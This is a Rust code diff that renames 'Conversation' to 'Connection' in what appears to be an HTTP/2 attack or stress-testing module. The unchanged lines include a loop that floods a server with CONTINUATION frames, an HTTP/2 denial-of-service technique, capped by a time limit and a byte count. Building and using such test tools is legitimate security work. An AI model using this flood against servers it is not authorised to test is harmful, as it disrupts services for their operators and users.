@@ -3,7 +3,7 @@
 use super::{Attack, source};
 use crate::frames::{Frames, MAX_FRAME, kind};
 use crate::scene::{Seen, Stage};
-use crate::stranger::{Conversation, tls};
+use crate::stranger::{Connection, tls};
 use anyhow::Result;
 use std::io;
 use std::time::Duration;
@@ -65,17 +65,17 @@ async fn go_on(
     until: Instant,
     sent: &mut usize,
 ) -> io::Result<()> {
-    let conversation = Conversation::open(stream, &[]).await?;
-    conversation.send(&Frames::default().begun_request(1, &[0x83])).await?;
+    let connection = Connection::open(stream, &[]).await?;
+    connection.send(&Frames::default().begun_request(1, &[0x83])).await?;
     // Fields must not be cut in two where frames are shorter than they are: then nothing but a part of one is sent.
     let payload: Vec<u8> = FIELD.into_iter().cycle().take(size).collect();
     let batch = (MAX_FRAME / size.max(9)).max(1);
-    while *sent < MOST && Instant::now() < until && !conversation.is_over() {
+    while *sent < MOST && Instant::now() < until && !connection.is_over() {
         let mut frames = Frames::default();
         for _ in 0..batch {
             frames = frames.frame(kind::CONTINUATION, 0, 1, &payload);
         }
-        conversation.send(&frames).await?;
+        connection.send(&frames).await?;
         *sent += frames.0.len();
     }
     Ok(())
